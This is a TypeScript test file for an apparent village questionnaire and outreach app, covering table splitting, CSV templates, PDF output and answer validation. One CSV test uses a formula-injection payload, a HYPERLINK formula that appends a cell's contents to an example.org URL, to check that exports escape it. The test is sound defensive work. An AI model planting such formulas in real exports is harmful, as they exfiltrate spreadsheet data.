import fc from 'fast-check'
import { readAnswerRows } from '../../../domain/outreach/answerRows'
import { readAppealRows } from '../../../domain/outreach/appealRows'
import { wrongWithAnswers, wrongWithDesign } from '../../../domain/outreach/questionnaire'
import { answered, unanswered } from '../../../src/features/questionnaire/given'
import { blankDesign, blankQuestion, checkPlaces, checkQuestions, designInput, designOf, questionAt, questionsOf } from '../../../src/papers/design/design'
import { partsOf, together } from '../../../src/features/sheet/parts'
import { csvOf } from '../../../src/features/sheet/csv'
import { answerTemplate, appealTemplate } from '../../../src/papers/import/template'
import { pdfOf } from '../../../src/papers/print/pdf'
import { organisation } from '../../domain/appeal/world'

describe('A table in parts', () => {
  const cell = fc.string({ unit: 'grapheme', maxLength: 300 })

  it('is the same table, each part small enough for a call and told by the number of its first row', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 8 }), { minLength: 1, maxLength: 260 }), fc.integer({ min: 2, max: 9 }), (rows, first) => {
        const parts = partsOf({ header: ['村', '内容'], rows, first })
        expect(parts.flatMap((part) => part.rows)).toEqual(rows)
        let row = first
        for (const part of parts) {
          expect(part.first).toBe(row)
          expect(part.rows.length).toBeGreaterThan(0)
          expect(part.rows.length).toBeLessThanOrEqual(100)
          expect(Buffer.byteLength(JSON.stringify(part))).toBeLessThan(100 * 1024)
          row += part.rows.length
        }
      }),
      { numRuns: 30 },
    )
  })

  it('has the sums of its parts', () => {
    const result = (good: number, bad: number, again: number) => ({ missing: [], rows: [], good, bad, again })
    expect(together([result(1, 2, 3), result(10, 20, 30)])).toEqual(result(11, 22, 33))
    expect(together([])).toEqual(result(0, 0, 0))
  })
})

describe('A template', () => {
  const cells = (csv: string) => csv.replace('\uFEFF', '').trim().split('\r\n').map((line) => line.split(','))

  it('has every column that is needed, and an example that is passed over until its mark is taken away', () => {
    const [header = [], example = []] = cells(csvOf(Object.values(appealTemplate('青木镇', '石桥村'))))
    expect(readAppealRows({ header, rows: [example] }, organisation)).toEqual({ missing: [], read: [] })
    const filled = [example[0]!.replace('示例：', ''), ...example.slice(1)]
    expect(readAppealRows({ header, rows: [filled] }, organisation).read).toEqual([expect.objectContaining({ row: 2, submission: expect.objectContaining({ place: { village: 'V11', spot: '村小学东边路口' } }) })])
  })

  it('of a questionnaire has a column a question, with an example that is an answer', () => {
    const questions = [
      { id: 'q1', kind: 'single' as const, title: '路好走吗', options: ['好走', '不好走'], needed: true },
      { id: 'q2', kind: 'multiple' as const, title: '缺什么', options: ['路灯', '护栏', '站牌'], needed: true },
      { id: 'q3', kind: 'scale' as const, title: '打几分', needed: true },
      { id: 'q4', kind: 'text' as const, title: '还想说什么', needed: true },
    ]
    const { titles, example } = answerTemplate(questions, '青木镇', '石桥村')
    const row = [example[0]!.replace('示例：', ''), ...example.slice(1)]
    const { missing, read } = readAnswerRows({ header: titles, rows: [example, row] }, questions, organisation)
    expect([missing, read]).toEqual([[], [expect.objectContaining({ row: 3, village: 'V11' })]])
  })

  it('quotes what would break a line', () => {
    expect(csvOf([['甲,乙', '丙'], ['说“好”', 'a"b\nc']])).toBe('\uFEFF"甲,乙",丙\r\n说“好”,"a""b\nc"\r\n')
  })

  it.each(['=HYPERLINK("http://example.org?"&A1)', '+86', '-2+3', '@SUM(A1)', '＝1', ' =1', '\t=1'])('make no formula of words that begin as one: %s', (words) => {
    expect(csvOf([[words]]).replace(/^\uFEFF"?/, '').startsWith("'")).toBe(true)
  })

  it.each(['张桂兰', '3-2', '第一网格、第二网格', '138****1234', '—'])('leave other words as they are: %s', (words) => {
    expect(csvOf([[words]])).toBe(`\uFEFF${words}\r\n`)
  })
})

describe('A sheet of paper', () => {
  it('is a PDF whose table tells where each of its parts stands, with the picture as it was', () => {
    const jpeg = Uint8Array.from({ length: 3000 }, (_, n) => (n * 7) % 256)
    const pdf = Buffer.from(pdfOf(jpeg, 1240, 1754))
    const text = pdf.toString('latin1')
    expect(text.startsWith('%PDF-1.4\n')).toBe(true)
    expect(text.trimEnd().endsWith('%%EOF')).toBe(true)
    const table = Number(/startxref\n(\d+)/.exec(text)![1])
    expect(text.slice(table, table + 8)).toBe('xref\n0 6')
    const places = [...text.slice(table).matchAll(/(\d{10}) 00000 n /g)].map(([, place]) => Number(place))
    places.forEach((place, at) => expect(text.slice(place, place + 7)).toBe(`${at + 1} 0 obj`))
    expect(pdf.includes(Buffer.from(jpeg))).toBe(true)
    for (const [, length, data] of text.matchAll(/\/Length (\d+) >>\nstream\n([\s\S]*?)\nendstream/g)) expect(data!.length).toBe(Number(length))
  })
})

describe('A design', () => {
  const design = { ...blankDesign('T1', '2026-03-16'), title: '出行问卷', places: ['V11'] }

  it('begins with a question that has to be written, and becomes the one that was kept', () => {
    expect(Object.keys(checkQuestions(blankDesign('T1', '2026-03-16')))).toEqual(['title', 'questions.0.title', 'questions.0.options'])
    expect(Object.keys(checkPlaces(blankDesign('T1', '2026-03-16')))).toEqual(['places'])
    const [first, second] = design.questions
    const whole = { ...design, questions: [{ ...first!, title: '路好走吗', options: ' 好走 \n\n不好走' }, second!] }
    expect([checkQuestions(whole), checkPlaces(whole)]).toEqual([{}, {}])
    expect(wrongWithDesign(questionsOf(whole), whole.endsOn, '2026-03-02')).toEqual({})
    const input = designInput('made-on-a-phone', whole)
    expect(input.questions[0]).toEqual({ id: 'q1', kind: 'single', title: '路好走吗', options: ['好走', '不好走'], needed: true })
    expect(designInput('made-on-a-phone', designOf(input))).toEqual(input)
  })

  it('gives each question an id of its own, whatever was removed, and finds the one that is wrong', () => {
    const [first, second] = design.questions
    expect(blankQuestion([second!]).id).toBe('q3')
    expect(blankQuestion([first!]).id).toBe('q2')
    expect([questionAt('questions.3.options'), questionAt('places')]).toEqual([3, null])
  })
})

it('What is answered is what the rules take, and what is left out is named', () => {
  const questions = questionsOf({ ...blankDesign('T1', '2026-03-16'), questions: [{ id: 'q1', kind: 'multiple', title: '缺什么', options: '路灯\n护栏', needed: true }, { id: 'q2', kind: 'text', title: '还有吗', options: '', needed: false }] })
  expect(Object.keys(unanswered(questions, { q2: { text: '有' } }))).toEqual(['q1'])
  const given = { q1: { choices: [1, 0] }, q2: { text: '  ' } }
  expect(unanswered(questions, given)).toEqual({})
  expect(answered(questions, given)).toEqual([{ question: 'q1', choices: [0, 1] }])
  expect(wrongWithAnswers(questions, answered(questions, given))).toEqual({})
})
